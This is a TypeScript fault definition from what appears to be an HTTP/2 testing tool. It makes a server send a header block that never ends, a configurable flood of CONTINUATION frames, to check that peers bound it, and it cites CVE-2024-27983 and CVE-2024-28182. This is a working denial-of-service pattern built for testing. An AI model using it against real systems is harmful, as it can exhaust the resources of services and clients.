import { encodeContinuation, encodeHeaders } from '../../../protos/h2/frames.ts';
import { HpackEncoder } from '../../../protos/hpack/encoder.ts';
import { Type } from '../../../protos/schema/type.ts';
import { h2Fault, okFields } from '../../raw-h2/h2-fault.ts';

export const h2SrvContinuationFlood = h2Fault({
  id: 'h2-srv-continuation-flood',
  layer: 'h2',
  summary: 'Never ends the header block of its answer.',
  peerMustSee: 'A block without end, to be bounded.',
  spec: 'CVE-2024-27983, CVE-2024-28182',
  params: Type.Object(
    {
      frames: Type.Integer({
        default: 200,
        minimum: 1,
        maximum: 100_000,
        description: 'CONTINUATION frames',
      }),
    },
    { additionalProperties: false },
  ),
  answer: (answer, params) => {
    const { peer, request } = answer;
    if (!answer.first) return;
    answer.fired(`${params.frames} CONTINUATION frames without END_HEADERS`);
    const filler = new HpackEncoder().encode([
      { name: 'x-flood', value: 'x'.repeat(64), indexing: 'without' },
    ]);
    const head = encodeHeaders(request.id, peer.encoder.encode(okFields([])), { endHeaders: false });
    const flood = Array.from({ length: params.frames }, () => encodeContinuation(request.id, filler, false));
    peer.send(Buffer.concat([head, ...flood]));
  },
});
